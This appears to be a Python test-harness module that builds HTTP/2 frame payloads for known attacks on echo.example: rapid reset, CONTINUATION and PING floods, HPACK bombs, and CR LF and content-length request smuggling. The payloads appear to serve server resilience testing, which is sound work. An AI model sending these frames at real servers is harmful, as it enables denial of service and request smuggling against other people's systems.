"""The attacks of HTTP/2's short history, as frames: what comes first, and the unit that is repeated."""
import struct

import http2
from http2 import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, SETTINGS, frame, reset, window_update)

OPENING = http2.PREFACE + http2.settings()


def block(*more, method="GET", path="/com.example.Echo/echo", authority="echo.example"):
    """Fields that refer to no table, so that they can be repeated."""
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", authority)]
    return b"".join(literal(name, value) for name, value in (*fields, ("service", "steady"), *more))


def literal(name, value, indexing=False):
    def text(octets):
        octets = octets.encode() if isinstance(octets, str) else octets
        return integer(len(octets), 7, 0) + octets
    return (b"\x40" if indexing else b"\x00") + text(name) + text(value)


def integer(value, bits, pattern):
    """RFC 7541 section 5.1."""
    if value < (1 << bits) - 1:
        return bytes([pattern | value])
    octets, value = bytearray([pattern | (1 << bits) - 1]), value - (1 << bits) + 1
    while value >= 128:
        octets.append(value & 127 | 128)
        value >>= 7
    return bytes(octets + bytes([value]))


def request(stream, fields=None, ends=True):
    return frame(HEADERS, END_HEADERS | (END_STREAM if ends else 0), stream, fields or block())


def long_block(stream, fields):
    """A request whose block needs more than a frame."""
    parts = [fields[at:at + http2.FRAME_SIZE] for at in range(0, len(fields), http2.FRAME_SIZE)]
    last = len(parts) - 1
    return b"".join(
        frame(HEADERS if index == 0 else CONTINUATION,
              (END_STREAM if index == 0 else 0) | (END_HEADERS if index == last else 0), stream, part)
        for index, part in enumerate(parts))


class Attack:
    """`first` is sent once, `unit(i)` up to `count` times. `reads`: whether the attacker reads what it is answered."""

    def __init__(self, name, count, unit, first=b"", reads=True):
        self.name, self.count, self.unit, self.first, self.reads = name, count, unit, first, reads


def stream(index):
    return 2 * index + 1


def each_stream(*frames_of):
    """A request, and what follows it on its stream."""
    return lambda index: request(stream(index)) + b"".join(make(stream(index)) for make in frames_of)


def same(octets):
    return lambda index: octets


OPEN_REQUEST = request(1, block(method="POST"), ends=False)
OPEN_BLOCK = frame(HEADERS, END_STREAM, 1, block())
BIG_FIELD = literal("x-bomb", b"v" * 4000, indexing=True)
SMALL_FIELD = literal("x", "", indexing=True)
NEWEST = integer(62, 7, 0x80)
BAD_REQUEST = literal("Upper-Case", "x")

ATTACKS = [
    Attack("rapid reset", 4000, each_stream(lambda id: reset(id, 8))),
    Attack("MYR: WINDOW_UPDATE 0", 4000, each_stream(lambda id: window_update(id, 0))),
    Attack("MYR: window overflow", 4000, each_stream(lambda id: window_update(id, 0x7FFFFFFF))),
    Attack("MYR: self-dependency", 4000,
           each_stream(lambda id: frame(PRIORITY, 0, id, struct.pack(">IB", id, 15)))),
    Attack("malformed request x4000", 4000, lambda index: request(stream(index), block() + BAD_REQUEST)),
    Attack("CONTINUATION tiny x4000", 4000, same(frame(CONTINUATION, 0, 1, literal("a", ""))), OPEN_BLOCK),
    Attack("CONTINUATION empty x4000", 4000, same(frame(CONTINUATION, 0, 1)), OPEN_BLOCK),
    Attack("CONTINUATION 15 KB x400", 400,
           same(frame(CONTINUATION, 0, 1, literal("a", b"v" * 15000))), OPEN_BLOCK),
    Attack("empty DATA x4000", 4000, same(frame(DATA, 0, 1)), OPEN_REQUEST),
    Attack("1-byte DATA x30000", 30000, same(frame(DATA, 0, 1, b"x")), OPEN_REQUEST),
    Attack("PRIORITY x20000", 20000, lambda index: frame(PRIORITY, 0, stream(index), struct.pack(">IB", 0, 15))),
    Attack("WINDOW_UPDATE +1 x20000", 20000, same(window_update(0, 1))),
    Attack("SETTINGS with 2000 entries", 1,
           same(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 2000))),
    Attack("HPACK bomb 4 KB x 10000 refs", 1, lambda index: request(1, block() + BIG_FIELD + NEWEST * 10000)),
    Attack("HTTP/2 bomb 16000 refs", 50,
           lambda index: long_block(stream(index), block() + SMALL_FIELD + NEWEST * 16000)),
    Attack("5000 table size updates", 1,
           lambda index: long_block(1, (b"\x20" + integer(4096, 5, 0x20)) * 2500 + block())),
    Attack("ping flood, peer not reading", 1_200_000, same(frame(PING, 0, 0, b"flooding")), reads=False),
    Attack("bad requests, peer not reading", 600_000, lambda index: request(stream(index), block() + BAD_REQUEST),
           reads=False),
    Attack("CR LF in value", 1, lambda index: request(1, block(("x-line", "a\r\nx-second: b")))),
    Attack("CR LF in :path", 1, lambda index: request(1, block(path="/a\r\nx-second: b"))),
    Attack("transfer-encoding: chunked", 1, lambda index: request(1, block(("transfer-encoding", "chunked")))),
    Attack("two different content-length", 1,
           lambda index: request(1, block(("content-length", "5"), ("content-length", "6"), method="POST"), ends=False)
           + frame(DATA, END_STREAM, 1, b"hello")),
    Attack("host differs from :authority", 1, lambda index: request(1, block(("host", "other.example")))),
]

# Floods of HTTP/2 that no row of the table counts, for the soak only.
MORE = [
    Attack("SETTINGS flood", 20000, same(http2.settings((4, 65535)))),
    Attack("SETTINGS flood, not reading", 200_000, same(http2.settings()), reads=False),
    Attack("PING flood", 20000, same(frame(PING, 0, 0, b"flooding"))),
    Attack("padding-only DATA", 4000, same(frame(DATA, http2.PADDED, 1, b"\x0a" + bytes(10))), OPEN_REQUEST),
    Attack("HEADERS after END_STREAM", 4000, lambda index: request(stream(index)) + request(stream(index))),
    Attack("DATA after END_STREAM", 4000, each_stream(lambda id: frame(DATA, END_STREAM, id, b"late"))),
    Attack("PRIORITY of wrong length", 4000, each_stream(lambda id: frame(PRIORITY, 0, id, b"1234"))),
    Attack("unknown frame types", 20000, lambda index: frame(10 + index % 246, index % 256, index % 9, b"unknown")),
    Attack("table churn", 300, lambda index: request(
        stream(index), block() + b"".join(literal(f"x-{index}-{n}", "v" * 30, indexing=True) for n in range(50)))),
    Attack("window never opens", 300, lambda index: (
        b"" if index else http2.settings((http2.INITIAL_WINDOW_SIZE, 0))) + frame(
            HEADERS, END_HEADERS, stream(index), block(method="POST")) + frame(
                DATA, END_STREAM, stream(index), b"x" * 10000)),
    Attack("lower stream id", 10, lambda index: request(stream(9 - index))),
    Attack("requests never ended", 2000, lambda index: request(stream(index), block(method="POST"), ends=False)),
]
